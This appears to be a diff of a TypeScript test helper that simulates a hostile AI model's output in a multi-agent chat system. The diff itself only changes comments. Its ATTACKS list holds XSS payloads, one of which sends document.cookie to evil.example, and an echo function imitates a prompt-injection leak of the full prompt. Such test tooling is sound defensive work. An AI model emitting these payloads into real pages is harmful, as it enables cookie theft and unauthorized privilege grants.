@@ -1,7 +1,7 @@
 import { pick } from '../../random.js';
 import type { Message } from '../protocol/chat.params.js';
 
-/** What a hostile model may say: markup, orders to other captains, forged frames, addresses, control characters, floods. */
+/** Output of a hostile model: markup, commands to other captains, forged frames, URLs, control characters, floods. */
 const ATTACKS = [
   '<script>fetch("/api/admin/users/1/grant",{method:"POST",body:JSON.stringify({amount:1000000})})</script>',
   '<img src=x onerror="document.location=\'https://evil.example/?c=\'+document.cookie">',
@@ -21,14 +21,14 @@ export function attack(random: () => number): string {
   return pick(random, ATTACKS);
 }
 
-/** The whole prompt said back, as a model does whose prompt was stolen. */
+/** Returns the whole prompt, as after a prompt injection. */
 export function echo(messages: Message[]): string {
   return messages
     .map(({ role, name, content }) => `${role}${name === null ? '' : ` (${name})`}: ${content}`)
     .join('\n');
 }
 
-/** Noise that is text and nothing else. */
+/** Random text. */
 export function garbage(random: () => number): string {
   return Array.from({ length: 400 }, () => String.fromCodePoint(33 + Math.floor(random() * 900))).join('');
 }
